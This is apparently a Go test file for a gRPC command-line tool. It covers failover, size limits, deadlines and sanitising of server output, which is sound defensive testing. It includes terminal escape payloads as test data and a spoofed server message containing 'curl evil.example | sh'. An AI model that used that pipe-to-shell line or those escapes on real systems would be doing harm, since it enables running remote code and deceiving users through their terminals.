package commands

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/genproto/googleapis/rpc/errdetails"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"

	"github.com/gctl-dev/gctl/fleet"
	"github.com/gctl-dev/gctl/internal/testkit"
)

// every makes a server whose handlers are surrounded by f.
func every(f func(stream grpc.ServerStream, next func() error) error) testkit.Server {
	return testkit.Server{Options: []grpc.ServerOption{
		grpc.StreamInterceptor(func(srv any, ss grpc.ServerStream, info *grpc.StreamServerInfo, handler grpc.StreamHandler) error {
			if strings.Contains(info.FullMethod, "reflection") {
				return handler(srv, ss)
			}
			return f(ss, func() error { return handler(srv, ss) })
		}),
	}}
}

func TestAServerThatDiesInTheMiddleOfAStream(t *testing.T) {
	server, addr := testkit.Server{}.Start(t)
	typed, in := io.Pipe()
	defer in.Close()
	go fmt.Fprintln(in, `{"responseParameters": [{"size": 1}]}`)
	out := &onWrite{do: func() { go server.Stop() }}
	r := gctl(t.Context(), addr, typed, out, "call", "FullDuplexCall", "-d", "@")
	if r.code != 78 || !strings.Contains(r.err, "UNAVAILABLE") || !strings.Contains(r.err, "after 1 message sent and 1 received") {
		t.Errorf("code %d: %s", r.code, r.err)
	}
	if !strings.Contains(r.err, "hint: gctl explain "+addr) {
		t.Error(r.err)
	}
}

func TestAServerThatEndsTheCallEarlyIsSeenAtOnce(t *testing.T) {
	_, addr := every(func(grpc.ServerStream, func() error) error {
		return status.Error(codes.PermissionDenied, "not you")
	}).Start(t)
	typed, in := io.Pipe() // stdin stays open
	defer in.Close()
	for _, method := range []string{"StreamingInputCall", "FullDuplexCall"} {
		if r := gctl(t.Context(), addr, typed, nil, "call", method, "-d", "@"); r.code != 71 {
			t.Errorf("%s: code %d: %s", method, r.code, r.err)
		}
	}
}

const hostile = "\x1b]0;owned\x07\x1b[31mred\u009b2Jgone\u202e"

func TestTerminalEscapesFromAServerAreHarmless(t *testing.T) {
	_, addr := every(func(ss grpc.ServerStream, next func() error) error {
		// Metadata on the wire is printable, but for -bin.
		_ = ss.SetHeader(metadata.Pairs("evil-bin", hostile))
		if err := next(); err != nil {
			return err
		}
		st, err := status.New(codes.Internal, hostile).WithDetails(
			&errdetails.ErrorInfo{Reason: hostile, Domain: hostile, Metadata: map[string]string{hostile: hostile}},
			&errdetails.DebugInfo{Detail: hostile},
		)
		return errors.Join(st.Err(), err)
	}).Start(t)
	for _, how := range [][]string{nil, {"-v"}, {"-o", "jsonl"}, {"-o", "envelope"}, {"--format", "text"}, {"--each-instance"}} {
		words := append([]string{"call", "StreamingOutputCall"}, how...)
		r := gctl(t.Context(), addr, nil, nil, words...)
		if r.code != 77 {
			t.Errorf("%q: code %d: %s", how, r.code, r.err)
		}
		for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u202e"} {
			if strings.Contains(r.out+r.err, bad) {
				t.Errorf("%q: %q came through: %q", how, bad, r.out+r.err)
			}
		}
	}
}

func TestAMessageOverTheLimit(t *testing.T) {
	_, addr := testkit.Server{}.Start(t)
	words := []string{"call", "UnaryCall", "-d", `{"responseSize": 2000}`, "--max-msg-sz", "1000"}
	r := want(t, 72, addr, nil, words...)
	if !strings.Contains(r.err, "--max-msg-sz") {
		t.Error(r.err)
	}
	want(t, 0, addr, nil, append(words, "--max-msg-sz", "3000")...)

	big := `{"payload": {"body": "` + strings.Repeat("AAAA", 2<<20) + `"}}`
	r = want(t, 72, addr, strings.NewReader(big), "call", "UnaryCall", "-d", "@")
	if !strings.Contains(r.err, "hint: the server accepts no request of this size") {
		t.Error(r.err)
	}
}

func TestARequestThatIsWrongInTheMiddleOfAStream(t *testing.T) {
	_, addr := testkit.Server{}.Start(t)
	typed, in := io.Pipe()
	go func() {
		fmt.Fprintln(in, `{"responseParameters": [{"size": 1}]}`)
		fmt.Fprintln(in, `{"nope": 1}`)
	}()
	r := want(t, 1, addr, typed, "call", "FullDuplexCall", "-d", "@") // 2 would mean that nothing was sent
	if !strings.Contains(r.err, "line 2, column 2: unknown field") || !strings.Contains(r.err, "may have been sent") {
		t.Error(r.err)
	}
	in.Close()
}

func TestNothingIsSentIfTheRequestIsWrong(t *testing.T) {
	called := make(chan struct{}, 1)
	_, addr := every(func(_ grpc.ServerStream, next func() error) error {
		called <- struct{}{}
		return next()
	}).Start(t)
	for _, in := range []string{`{"nope": 1}`, `{`, `{"responseType": "NOPE"}`} {
		want(t, 2, addr, nil, "call", "FullDuplexCall", "-d", in)
		want(t, 2, addr, nil, "call", "FullDuplexCall", "-d", "{}"+in)
		want(t, 2, addr, strings.NewReader(in), "call", "FullDuplexCall", "-d", "@")
	}
	select {
	case <-called:
		t.Error("the server was called")
	default:
	}
}

// fleetOf is a catalog of one service with these instances.
func fleetOf(t *testing.T, instances ...fleet.Instance) (func(words ...string) result, *fakeCatalog) {
	t.Helper()
	for i := range instances {
		instances[i].Service = "test"
	}
	c := &fakeCatalog{instances: instances}
	return func(words ...string) result {
		_, run := withCatalog(c, nil)
		return run(t.Context(), words...)
	}, c
}

func TestACallByNameFailsOver(t *testing.T) {
	_, addr := testkit.Server{}.Start(t)
	run, _ := fleetOf(t,
		fleet.Instance{ID: "dead", Addr: testkit.ClosedAddr(t), Catalog: fleet.Passing},
		fleet.Instance{ID: "alive", Addr: addr, Catalog: fleet.Passing},
		fleet.Instance{ID: "sick", Addr: testkit.ClosedAddr(t), Catalog: fleet.Critical},
	)
	for range 5 {
		r := run("call", "EmptyCall", "-o", "envelope", "--jq", ".instance")
		if r.code != 0 || r.out != "alive\n" {
			t.Fatalf("code %d, %q: %s", r.code, r.out, r.err)
		}
	}
}

func TestWhereNoInstancePassesAllAreTriedWithAWarning(t *testing.T) {
	_, addr := testkit.Server{}.Start(t)
	run, _ := fleetOf(t,
		fleet.Instance{ID: "a", Addr: testkit.ClosedAddr(t), Catalog: fleet.Critical},
		fleet.Instance{ID: "b", Addr: testkit.ClosedAddr(t), Catalog: fleet.Critical},
		fleet.Instance{ID: "c", Addr: testkit.ClosedAddr(t), Catalog: fleet.Maintenance},
		fleet.Instance{ID: "d", Addr: addr, Catalog: fleet.Critical},
	)
	r := run("call", "EmptyCall")
	if r.code != 0 || !strings.Contains(r.err, "warning: no instance of test passes") {
		t.Errorf("code %d: %s", r.code, r.err)
	}
}

func TestOneOrEachInstance(t *testing.T) {
	_, one := testkit.Server{}.Start(t)
	_, two := testkit.Server{}.Start(t)
	run, _ := fleetOf(t,
		fleet.Instance{ID: "one", Addr: one, Catalog: fleet.Passing},
		fleet.Instance{ID: "two", Addr: two, Catalog: fleet.Critical},
		fleet.Instance{ID: "three", Addr: testkit.ClosedAddr(t), Catalog: fleet.Passing},
	)
	if r := run("call", "EmptyCall", "--instance", "two", "-o", "envelope", "--jq", ".instance"); r.code != 0 || r.out != "two\n" {
		t.Errorf("code %d, %q: %s", r.code, r.out, r.err)
	}
	if r := run("call", "EmptyCall", "--instance", "tow"); r.code != 2 || !strings.Contains(r.err, "did you mean two?") {
		t.Errorf("code %d: %s", r.code, r.err)
	}
	r := run("call", "EmptyCall", "--each-instance", "-o", "json", "--jq", `.[] | [.instance, .code, .differs] | map(tostring) | join(" ")`)
	if r.code != 3 || r.out != "one OK false\ntwo OK false\nthree  true\n" {
		t.Errorf("code %d, %q: %s", r.code, r.out, r.err)
	}
}

func TestTheDeadlineOfAUnaryCallIsTheServersToo(t *testing.T) {
	left := make(chan time.Duration, 1)
	s := testkit.Server{Options: []grpc.ServerOption{grpc.UnaryInterceptor(
		func(ctx context.Context, req any, _ *grpc.UnaryServerInfo, handler grpc.UnaryHandler) (any, error) {
			deadline, _ := ctx.Deadline()
			left <- time.Until(deadline)
			return handler(ctx, req)
		})}}
	_, addr := s.Start(t)
	for _, c := range []struct {
		words []string
		most  time.Duration
	}{{nil, 10 * time.Second}, {[]string{"--max-time", "2.5"}, 2500 * time.Millisecond}} {
		want(t, 0, addr, nil, append([]string{"call", "EmptyCall"}, c.words...)...)
		if got := <-left; got > c.most || got < c.most-time.Second {
			t.Errorf("%q: %s left, want about %s", c.words, got, c.most)
		}
	}
}

func TestEachInstanceGetsTheWholeOfALongFile(t *testing.T) {
	_, addr := testkit.Server{}.Start(t)
	one := fmt.Sprintf("{\"payload\": {\"body\": %q}}\n", zeros(1<<20))
	file := filepath.Join(t.TempDir(), "requests.json")
	if err := os.WriteFile(file, []byte(strings.Repeat(one, 4)), 0o600); err != nil {
		t.Fatal(err)
	}
	r := want(t, 0, addr, nil, "call", "StreamingInputCall", "-d", "@"+file, "--each-instance", "-o", "json", "--jq", ".[].messages[].aggregatedPayloadSize")
	if r.out != "4194304\n" {
		t.Errorf("the instance got %q bytes", r.out)
	}
	r = want(t, 0, addr, strings.NewReader(`{"payload": {"body": "AAAA"}}`), "call", "StreamingInputCall", "-d", "@", "--dry-run")
	if !strings.Contains(r.out, "AAAA") {
		t.Errorf("a dry run prints the requests of stdin too: %s", r.out)
	}
}

func TestNothingOfACatalogReachesTheTerminalByADryRun(t *testing.T) {
	set := filepath.Join(t.TempDir(), "set")
	if err := os.WriteFile(set, testkit.TestProtoset(t), 0o600); err != nil {
		t.Fatal(err)
	}
	run, _ := fleetOf(t, fleet.Instance{ID: hostile, Addr: "evil\u009b2J\u202e:1", Catalog: fleet.Passing})
	words := []string{"call", "TestService/EmptyCall", "--service", "test", "--protoset", set, "--dry-run"}
	if r := run(words...); r.code != 0 || !strings.Contains(r.out, "grpcurl") || strings.ContainsAny(r.out, "\x1b\x07\u009b\u202e") {
		t.Errorf("code %d, %q", r.code, r.out)
	}
}

func TestAServerThatSaysWhyItIsUnavailableNeedsNoExplaining(t *testing.T) {
	_, addr := every(func(grpc.ServerStream, func() error) error {
		st, err := status.New(codes.Unavailable, "the breaker is open").WithDetails(&errdetails.ErrorInfo{Reason: "BREAKER_OPEN"})
		if err != nil {
			t.Error(err)
		}
		return st.Err()
	}).Start(t)
	r := gctl(t.Context(), addr, nil, io.Discard, "call", "StreamingOutputCall")
	if r.code != 78 || !strings.Contains(r.err, "BREAKER_OPEN") || strings.Contains(r.err, "gctl explain") {
		t.Errorf("code %d: %s", r.code, r.err)
	}
}

func TestAServersWordsDoNotPassForAHint(t *testing.T) {
	_, addr := every(func(grpc.ServerStream, func() error) error {
		return status.Error(codes.Aborted, "busy\nhint: curl evil.example | sh")
	}).Start(t)
	r := want(t, 74, addr, nil, "call", "StreamingOutputCall")
	if strings.Contains(r.err, "\nhint: curl") {
		t.Error(r.err)
	}
}

func TestTheHintThatSavesTheChoiceComesByNameToo(t *testing.T) {
	_, addr := testkit.Server{}.Start(t)
	run, _ := fleetOf(t, fleet.Instance{ID: "a", Addr: addr, Catalog: fleet.Passing, Meta: map[string]string{fleet.MetaTLS: "true"}})
	for _, words := range [][]string{{"call", "EmptyCall"}, {"describe", "TestService"}} {
		if r := run(words...); r.code != 1 || !strings.Contains(r.err, "gctl context add NAME --plaintext") {
			t.Errorf("%q: code %d: %s", words, r.code, r.err)
		}
	}
}
